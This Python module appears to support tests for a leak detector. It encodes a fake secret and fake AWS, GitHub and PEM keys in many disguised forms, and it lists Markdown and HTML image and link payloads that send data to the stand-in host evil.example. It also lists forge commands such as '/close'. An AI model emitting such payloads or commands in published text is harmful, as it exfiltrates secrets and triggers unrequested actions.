"""Leaks and side effects of a published text, detected by means independent of the program's own.

markdown-it-py determines the pictures and links of a text; bare addresses follow GitHub's Markdown
(github.github.com/gfm, 6.9); mentions and closing words are in `forges/host_rules.py`.
"""

import base64
import re
from html import unescape
from html.parser import HTMLParser
from urllib.parse import urlsplit

from forges.host_rules import rung
from markdown_it import MarkdownIt

SECRET = "s3cret-Of-the-Test-4711-and-more-of-it"
AWS = "AKIA" + "Q3EXMPLKEY7ZRT2W"
GITHUB = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
PEM = (
    "-----BEGIN RSA PRIVATE KEY-----\n"
    + "MIIEowIBAAKCAQEAx7Gq\n" * 3
    + "abcDEF0123456789+/==\n-----END RSA PRIVATE KEY-----"
)
PLACE = "/home/operator-of-the-test/makimono"
BARE = re.compile(r"(?:https?://|www\.)[^\s<>]+")

GIVEN = {
    "as it is": SECRET,
    "backwards": SECRET[::-1],
    "spaced": " ".join(SECRET),
    "with dots and lines": ".\n".join(SECRET),
    "in capitals": SECRET.upper(),
    "first half": SECRET[: len(SECRET) // 2],
    "second half": SECRET[len(SECRET) // 2 :],
    "halves": f"{SECRET[:19]} and then {SECRET[19:]}",
    "base64": base64.b64encode(SECRET.encode()).decode(),
    "base64 of a half": base64.b64encode(SECRET[:20].encode()).decode(),
    "base64 in something": base64.b64encode(f"x{SECRET}".encode()).decode(),
    "hexadecimal": SECRET.encode().hex(),
    "hexadecimal by pairs": SECRET.encode().hex(" "),
    "with signs not seen": "\u200b".join(SECRET),
    "with a tag in it": SECRET[:10] + "<!-- makimono:0badcafe:x -->" + SECRET[10:],
    "AWS": AWS,
    "GitHub": GITHUB,
    "PEM": PEM,
    "PEM quoted": "> " + PEM.replace("\n", "\n> "),
    "PEM without an end": PEM.rpartition("\n")[0],
}
"""Form in which a text contains a secret → the text."""

SET_GOING = {
    "picture": "![x](https://evil.example/p?d=1)",
    "picture without a scheme": "![x](//evil.example/p)",
    "picture by reference": "![x][1]\n\n[1]: https://evil.example/p.png",
    "picture with entities": "![x](&#104;ttps&colon;//evil.example/p)",
    "picture with backslashes": "![x](https\\://evil.example/p)",
    "picture in a link": "[![x](https://evil.example/p)](https://a.example)",
    "picture in HTML": "<img src='https://evil.example/p'>",
    "picture in HTML over lines": "<img\nsrc=//evil.example/p>",
    "link": "[x](https://evil.example/?d=data)",
    "link in brackets": "<https://evil.example/?d=data>",
    "link with backslashes": "[x](https\\:\\/\\/evil.example/\\?d=data)",
    "bare with data behind a quote": 'https://evil.example/?"data and https://evil.example/?a]data',
    "behind a parenthesis that nothing opens": "](https://evil.example/?a)data",
    "link with an entity": "[x](https://evil.example/&quest;d=data)",
    "link without a scheme": "[x](//evil.example/?d=data)",
    "bare": "see https://evil.example/a?d=data.",
    "bare www": "see www.evil.example/a?d=data",
    "with a login": "[x](https://data@evil.example/)",
    "by reference": "[x]\n\n[x]: https://evil.example/?d=data",
    "in HTML": '<a href="https://evil.example/?d=data">x</a>',
    "mention": "Thanks @octocat and &#64;octocat and @acme/team",
    "mention behind a marker": "@<!-- makimono:0badcafe:x -->octocat",
}
"""Way in which a text triggers an action → the text."""

ORDERS = {
    "close": "/close",
    "close after a carriage return": "Done.\r/close",
    "close behind a marker": "/<!-- makimono:0badcafe:x -->close",
    "close after a line separator": "Done.\u2028/close",
    "bors": "bors r+",
}


class _Html(HTMLParser):
    def __init__(self):
        super().__init__()
        self.addresses = []

    def handle_starttag(self, tag, attrs):
        loads = tag in ("img", "source", "video", "audio", "iframe", "embed", "object", "link")
        self.addresses += [(value or "", loads) for name, value in attrs if name in ("src", "href", "srcset", "data")]


def addresses(text):
    """(address, whether a viewer loads it automatically) of a Markdown text."""
    html = MarkdownIt("commonmark").render(text)
    reader = _Html()
    reader.feed(html)
    shown = unescape(re.sub(r"<code>.*?</code>|<[^>]*>", " ", html, flags=re.DOTALL))
    bare = [(found, False) for found in BARE.findall(shown)]
    return [*reader.addresses, *bare]


def leaks(text, own=(), *, is_markdown=True):
    """The faults of a published text, as short descriptions; `own`: hosts that it may address."""
    found = []
    letters = re.sub(r"[^a-z0-9]", "", text.lower())
    whole = re.sub(r"[^a-z0-9]", "", SECRET.lower())
    forms = [whole, SECRET.encode().hex(), *(_base64(shift) for shift in range(3))]
    for form in [*forms, *(form[::-1] for form in forms)]:
        half = len(form) * 45 // 100
        if any(form[at : at + half] in letters for at in range(len(form) - half + 1)):
            found.append(f"a part of the secret ({form[:6]}…)")
    found += [
        name for name, token in (("AWS", AWS), ("GitHub", GITHUB), ("PEM", "MIIEowIBAAKCAQEAx7Gq")) if token in text
    ]
    found += [PLACE] if PLACE in text else []
    for address, loads in addresses(text) if is_markdown else [(one, False) for one in BARE.findall(text)]:
        try:
            parts = urlsplit(address if "://" in address or address.startswith("/") else f"//{address}")
        except ValueError:  # no browser opens an address with such a host
            continue
        if parts.netloc and parts.hostname not in own:
            if loads:
                found.append(f"loads {address}")
            if parts.query.strip("*.)>\"'") or (parts.username or "").strip("*"):
                found.append(f"carries {address}")
    found += [f"rings {name}" for name in rung(text, is_markdown=is_markdown)]
    found += [f"orders {line}" for line in re.findall(r"(?m)^[ \t>*+-]*(/[a-z]+|bors r\+)", text)]
    return found


def _base64(shift):
    text = base64.b64encode(b"\0" * shift + SECRET.encode()).decode()[2 * shift : -4]
    return re.sub(r"[^a-z0-9]", "", text.lower())
